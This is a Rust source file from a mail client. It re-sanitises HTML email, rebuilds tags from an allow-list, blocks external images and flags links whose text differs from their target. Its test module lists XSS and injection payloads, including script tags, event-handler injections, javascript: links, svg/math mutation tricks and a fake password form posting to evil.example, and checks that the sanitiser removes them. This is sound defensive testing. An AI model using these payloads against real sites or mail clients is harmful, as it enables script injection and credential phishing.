//! The HTML part of a mail as the conversation shows it: sanitised once more, pictures only from our own store, long quotes folded.
//!
//! What comes in was sanitised when it arrived. It is done again here, so that a gap in the first pass, an import or a hand in the database
//! does not reach a screen; then every tag is written anew from a list, so that nothing gets through by being unknown.

use std::fmt::Write as _;

use i18n::Texts;

/// Bytes of HTML one page shows formatted; what is older stays text.
pub const BUDGET: usize = 1 << 20;
/// A quotation of more bytes than this is folded.
const LONG_QUOTE: usize = 400;
const REL: &str = "noopener noreferrer nofollow";

#[derive(Debug, PartialEq, Eq)]
pub struct Formatted {
    /// Safe to be put into the page as it is.
    pub html: String,
    /// Pictures that were not loaded.
    pub blocked: i64,
    /// It has its own folded quotation.
    pub has_quote: bool,
    /// Something in it may be wider than the page and scrolls.
    pub is_wide: bool,
}

/// The mail with its form, or nothing when the text says as much. `pictures`: content ids (RFC 2392) and the addresses they are shown from.
pub fn formatted(t: Texts, html: &str, pictures: &[(&str, String)]) -> Option<Formatted> {
    let clean = channels::html::sanitise(html);
    let mut writer = Writer {
        t,
        pictures,
        out: String::with_capacity(clean.len()),
        quotes: Vec::new(),
        links: 0,
        is_worth: false,
        blocked: 0,
        has_quote: false,
        is_wide: false,
    };
    let mut rest = clean.as_str();
    while let Some(at) = rest.find('<') {
        writer.out.push_str(&rest[..at]);
        let end = tag_end(&rest[at..])?;
        let (tag, behind) = (&rest[at + 1..at + end], &rest[at + end + 1..]);
        match tag.strip_prefix('/') {
            Some(name) => writer.end(name),
            None => writer.start(tag, behind),
        }
        rest = behind;
    }
    writer.out.push_str(rest);
    let Writer { out, is_worth, blocked, has_quote, is_wide, .. } = writer;
    is_worth.then_some(Formatted { html: out, blocked, has_quote, is_wide })
}

/// Where the tag's `>` stands: not inside quotation marks. Serialised HTML always closes both.
fn tag_end(tag: &str) -> Option<usize> {
    let mut is_quoted = false;
    tag.bytes().position(|b| {
        is_quoted ^= b == b'"';
        b == b'>' && !is_quoted
    })
}

/// The attribute's value as it stands there, escaped.
fn attribute<'a>(tag: &'a str, wanted: &str) -> Option<&'a str> {
    let mut rest = tag.split_once(' ')?.1;
    loop {
        let (name, behind) = rest.split_once("=\"")?;
        let (value, next) = behind.split_once('"')?;
        if name.trim() == wanted {
            return Some(value);
        }
        rest = next;
    }
}

struct Writer<'a> {
    t: Texts,
    pictures: &'a [(&'a str, String)],
    out: String,
    /// Open quotations, and whether each is folded.
    quotes: Vec<bool>,
    links: usize,
    is_worth: bool,
    blocked: i64,
    has_quote: bool,
    is_wide: bool,
}

impl Writer<'_> {
    fn start(&mut self, tag: &str, behind: &str) {
        let name = tag.split(' ').next().unwrap_or_default();
        match name {
            "p" | "br" | "div" | "span" | "sub" | "sup" | "small" | "q" | "cite" | "figure" | "figcaption" | "hr" => {
                if name == "span" {
                    self.blocked(attribute(tag, "title").unwrap_or_default());
                } else {
                    let _ = write!(self.out, "<{name}>");
                }
            }
            "b" | "strong" | "i" | "em" | "u" | "s" | "del" | "ins" | "kbd" | "code" | "ul" | "li" | "dl" | "dt" | "dd" | "caption"
            | "thead" | "tbody" | "tr" => {
                self.is_worth = true;
                let _ = write!(self.out, "<{name}>");
            }
            "pre" | "table" => {
                (self.is_worth, self.is_wide) = (true, true);
                let _ = write!(self.out, "<{name}>");
            }
            "ol" | "td" | "th" => {
                self.is_worth = true;
                let _ = write!(self.out, "<{name}");
                for number in ["start", "colspan", "rowspan"] {
                    if let Some(n) = attribute(tag, number).and_then(|n| n.parse::<u32>().ok()) {
                        let _ = write!(self.out, " {number}=\"{n}\"");
                    }
                }
                self.out.push('>');
            }
            // The page's own headings form an outline; those of a mail all stand one level below its title.
            "h1" | "h2" | "h3" | "h4" | "h5" | "h6" => {
                self.is_worth = true;
                self.out.push_str("<h2 class=\"mail-heading\">");
            }
            "a" => self.link(attribute(tag, "href").unwrap_or_default(), behind),
            "img" => self.picture(attribute(tag, "data-cid").unwrap_or_default(), attribute(tag, "alt").unwrap_or_default()),
            "blockquote" => {
                let is_folded = self.quotes.is_empty() && quote_length(behind) > LONG_QUOTE;
                self.quotes.push(is_folded);
                self.has_quote |= is_folded;
                if is_folded {
                    let _ = write!(self.out, "<details class=\"quote-fold\"><summary>{}</summary>", self.t.mail_quote());
                }
                self.out.push_str("<blockquote>");
            }
            _ => {}
        }
    }

    fn end(&mut self, name: &str) {
        match name {
            "h1" | "h2" | "h3" | "h4" | "h5" | "h6" => self.out.push_str("</h2>"),
            "a" if self.links > 0 => {
                self.links -= 1;
                self.out.push_str("</a>");
            }
            "blockquote" => {
                if let Some(is_folded) = self.quotes.pop() {
                    self.out.push_str(if is_folded { "</blockquote></details>" } else { "</blockquote>" });
                }
            }
            "p" | "div" | "span" | "sub" | "sup" | "small" | "q" | "cite" | "figure" | "figcaption" | "b" | "strong" | "i" | "em" | "u"
            | "s" | "del" | "ins" | "kbd" | "code" | "ul" | "ol" | "li" | "dl" | "dt" | "dd" | "caption" | "thead" | "tbody" | "tr"
            | "td" | "th" | "pre" | "table" => {
                let _ = write!(self.out, "</{name}>");
            }
            _ => {}
        }
    }

    /// A link says where it leads when its words do not: what is read and what is opened are not always the same.
    fn link(&mut self, href: &str, behind: &str) {
        if !["http://", "https://", "mailto:"].iter().any(|scheme| href.starts_with(scheme)) {
            return;
        }
        self.links += 1;
        let words = behind.split_once("</a>").map_or("", |(words, _)| words).trim();
        let says_it =
            !words.is_empty() && (words == href || href.trim_end_matches('/') == words || href.strip_prefix("mailto:") == Some(words));
        let _ = write!(self.out, "<a href=\"{href}\" target=\"_blank\" rel=\"{REL}\"");
        if !says_it {
            self.is_worth = true;
            let _ = write!(self.out, " title=\"{href}\"");
        }
        self.out.push('>');
    }

    /// A picture that came with the mail is shown from our store; the file's own address decides whether its type is harmless.
    fn picture(&mut self, cid: &str, alt: &str) {
        let cid = cid.replace("&amp;", "&").replace("%40", "@");
        self.is_worth = true;
        match self.pictures.iter().find(|(id, _)| *id == cid) {
            Some((_, address)) => {
                let _ = write!(self.out, "<img src=\"{address}\" alt=\"{alt}\" loading=\"lazy\" decoding=\"async\">");
            }
            None if alt.is_empty() => {}
            None => {
                let _ = write!(self.out, "<span class=\"img-blocked\">{alt}</span>");
            }
        }
    }

    /// Where a picture from elsewhere would have stood; its description is the span's text.
    fn blocked(&mut self, host: &str) {
        self.blocked += 1;
        self.is_worth = true;
        let _ = write!(self.out, "<span class=\"img-blocked\" title=\"{host}\">");
    }
}

/// Bytes up to the end of the quotation that has just begun, those within it included.
fn quote_length(behind: &str) -> usize {
    let mut depth = 1_u32;
    for (at, _) in behind.match_indices('<') {
        if behind[at..].starts_with("</blockquote>") {
            depth -= 1;
        } else if behind[at..].starts_with("<blockquote>") {
            depth += 1;
        }
        if depth == 0 {
            return at;
        }
    }
    behind.len()
}

#[cfg(test)]
mod tests {
    use model::Locale;

    use super::*;

    fn show(html: &str) -> Option<Formatted> {
        formatted(Texts::new(Locale::DeDe), html, &[("logo@mail", "/nordwind/files/7".into())])
    }
    fn html(source: &str) -> String {
        show(source).map(|f| f.html).unwrap_or_default()
    }

    #[test]
    fn form_that_says_something_is_shown_and_mere_text_is_not() {
        for plain in [
            "<p>Guten Tag,<br>bis morgen.</p>",
            "<div>https://firma.example/a</div>",
            "<a href=\"https://firma.example/a\">https://firma.example/a</a>",
            "",
        ] {
            assert_eq!(show(plain), None, "{plain}");
        }
        assert_eq!(html("<p>Das ist <b>wichtig</b>.</p>"), "<p>Das ist <b>wichtig</b>.</p>");
        assert_eq!(html("<h1>A</h1><h4>B</h4>"), "<h2 class=\"mail-heading\">A</h2><h2 class=\"mail-heading\">B</h2>");
        assert!(
            show("<table><tr><td colspan=2>a</td></tr></table>").is_some_and(|f| f.is_wide && f.html.contains("<td colspan=\"2\">a</td>"))
        );
    }

    #[test]
    fn a_link_says_where_it_leads() {
        assert_eq!(
            html("<a href=\"https://boese.example/x\">https://bank.example</a>"),
            "<a href=\"https://boese.example/x\" target=\"_blank\" rel=\"noopener noreferrer nofollow\" title=\"https://boese.example/x\">https://bank.example</a>"
        );
    }

    #[test]
    fn pictures_come_from_our_own_store_or_not_at_all() {
        let shown =
            show("<img src=\"cid:logo@mail\" alt=Logo><img src=cid:fehlt alt=Foto><img src=https://cdn.example/a.png alt=Hund>").unwrap();
        assert_eq!(shown.blocked, 1);
        assert_eq!(
            shown.html,
            "<img src=\"/nordwind/files/7\" alt=\"Logo\" loading=\"lazy\" decoding=\"async\"><span class=\"img-blocked\">Foto</span>\
             <span class=\"img-blocked\" title=\"cdn.example\">Hund</span>"
        );
    }

    #[test]
    fn long_quotations_fold_and_short_ones_stay() {
        let long =
            show(&format!("<p><b>Neu</b></p><blockquote>{}<blockquote>innen</blockquote></blockquote><p>Ende</p>", "alt ".repeat(200)))
                .unwrap_or_else(|| panic!("emphasis is form"));
        assert!(long.has_quote && long.html.ends_with("</blockquote></blockquote></details><p>Ende</p>"), "{}", long.html);
        assert!(show("<b>x</b><blockquote>kurz</blockquote>").is_some_and(|f| !f.has_quote && !f.html.contains("<details")));
    }

    /// Everything that would run, load, restyle or leave the box, whichever way it is smuggled in.
    #[test]
    fn nothing_hostile_reaches_the_page() {
        for hostile in [
            "<b>x</b><script>alert(1)</script>",
            "<b>x</b><img src=x onerror=alert(1) alt=y>",
            "<b>x</b><img src=cid:logo@mail alt='\" onerror=\"alert(1)'>",
            "<b>x</b><img src='cid:x\" src=\"https://evil.example/p' alt=y>",
            "<b>x</b><span class=img-blocked title='<img data-cid=\"logo@mail\" alt=\"'>y</span>",
            "<b>x</b><span class=img-blocked title='<img data-cid='>\" onload=alert(1) x=\"</span>",
            "<b>x</b><span class='img-blocked composer' title=y style=position:fixed id=composer>z</span>",
            "<b>x</b></div></article></details></main><form action=https://evil.example><input name=password>",
            "<b>x</b><a href='javascript:alert(1)'>y</a>",
            "<b>x</b><a href='https://fine.example/\" onclick=\"alert(1)'>y</a>",
            "<b>x</b><svg><style><img src=x onerror=alert(1)></style></svg>",
            "<b>x</b><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<b>x</b><div style='position:fixed;inset:0;background:url(https://evil.example/p)' class=toast>y</div>",
            "<b>x</b><link rel=stylesheet href=https://evil.example><style>*{display:none}</style><base href=https://evil.example>",
            "<b>x</b><video poster=https://evil.example/p src=https://evil.example/v></video><iframe src=https://evil.example></iframe>",
            "<b>x</b><table background=https://evil.example/b><tr><td background=https://evil.example/c colspan='2\" onclick=\"x'>y",
        ] {
            let shown = html(hostile);
            let tree = scraper::Html::parse_fragment(&format!("<div id=box>{shown}</div><p id=behind>"));
            let selector = |s: &str| scraper::Selector::parse(s).unwrap();
            for element in tree.select(&selector("*")) {
                for (name, value) in element.value().attrs() {
                    let is_fine = match (element.value().name(), name) {
                        ("div" | "p", "id") => value == "box" || value == "behind",
                        ("a", "href" | "title") => value.starts_with("http"),
                        ("a", "rel" | "target") | ("img", "alt" | "loading" | "decoding") | ("span", "title") => true,
                        ("img", "src") => value == "/nordwind/files/7",
                        ("span", "class") => value == "img-blocked",
                        _ => value.bytes().all(|b| b.is_ascii_digit()),
                    };
                    assert!(is_fine, "{hostile}\n→ {shown}\n{name}={value}");
                }
            }
            for gone in [
                "script",
                "style",
                "form",
                "input",
                "link",
                "base",
                "svg",
                "math",
                "video",
                "iframe",
                "#box #behind",
                "#box ~ :not(#behind)",
            ] {
                assert!(tree.select(&selector(gone)).next().is_none(), "{gone}: {hostile}\n→ {shown}");
            }
        }
    }
}
